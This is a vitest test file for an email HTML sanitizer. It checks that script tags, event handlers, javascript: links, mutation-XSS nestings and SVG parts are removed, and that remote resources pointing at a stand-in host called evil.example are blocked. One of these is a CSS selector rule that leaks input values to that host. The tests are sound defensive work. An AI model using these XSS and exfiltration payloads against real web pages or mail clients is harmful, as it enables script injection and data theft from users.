import { describe, expect, it } from 'vitest';
import { BLOCKED_IMAGE_NOTE, sanitizeEmailHtml } from './sanitize-email-html.js';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

describe('sanitizeEmailHtml', () => {
  const cases: [string, string][] = [
    ['script', '<p>a</p><script>alert(1)</script>'],
    ['onerror', '<img src=x onerror=alert(1)>'],
    ['onload body', '<body onload=alert(1)><p>a</p></body>'],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['style block', '<style>input[value^=a]{background:url(http://evil.example/a)}</style>'],
    ['style attribute url', '<div style="background:url(http://evil.example/b)">x</div>'],
    ['svg with script', '<svg onload=alert(1)><script>alert(2)</script></svg>'],
    ['iframe', '<iframe src="http://evil.example/"></iframe>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/">'],
    ['base', '<base href="http://evil.example/">'],
    ['form', '<form action="http://evil.example"><input name=a></form>'],
    ['link stylesheet', '<link rel=stylesheet href="http://evil.example/s.css">'],
    ['mXSS via math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ];
  it.each(cases)('removes %s', (_name, input) => {
    const out = sanitizeEmailHtml(input);
    expect(out).not.toMatch(/<script|<style|<svg|<iframe|<meta|<base|<form|<link|<math|\son\w+=|javascript:|url\(|evil\.example\/[a-z]/i);
  });

  it('keeps formatting, tables and safe inline styles', () => {
    const out = sanitizeEmailHtml('<table><tr><td style="color:#c00;font-weight:bold">48213</td></tr></table><p><b>Т1</b> <i>день</i></p>');
    expect(out).toContain('<td style="color:#c00;font-weight:bold">48213</td>');
    expect(out).toContain('<b>Т1</b>');
  });

  it('replaces remote and protocol-relative images by a note and inlines the message\'s own cid: images', () => {
    const out = sanitizeEmailHtml('<img src="http://evil.example/t.png"><img src="//evil.example/p.png"><img src="cid:logo@x" alt="logo">', [
      { contentId: 'logo@x', contentType: 'image/png', content: PNG },
    ]);
    expect(out.split(BLOCKED_IMAGE_NOTE)).toHaveLength(3);
    expect(out).toContain(`<img src="data:image/png;base64,${PNG.toString('base64')}" alt="logo" />`);
  });

  it('never inlines an SVG part, even by cid:', () => {
    const out = sanitizeEmailHtml('<img src="cid:s@x">', [{ contentId: 's@x', contentType: 'image/svg+xml', content: Buffer.from('<svg onload=alert(1)/>') }]);
    expect(out).not.toContain('data:');
    expect(out).toContain(BLOCKED_IMAGE_NOTE);
  });

  it('makes links inert: the text stays, the target only in a tooltip', () => {
    expect(sanitizeEmailHtml('<a href="https://khab.dvec.ru/">сайт</a>')).toBe('<span title="ссылка: https://khab.dvec.ru/">сайт</span>');
  });
});
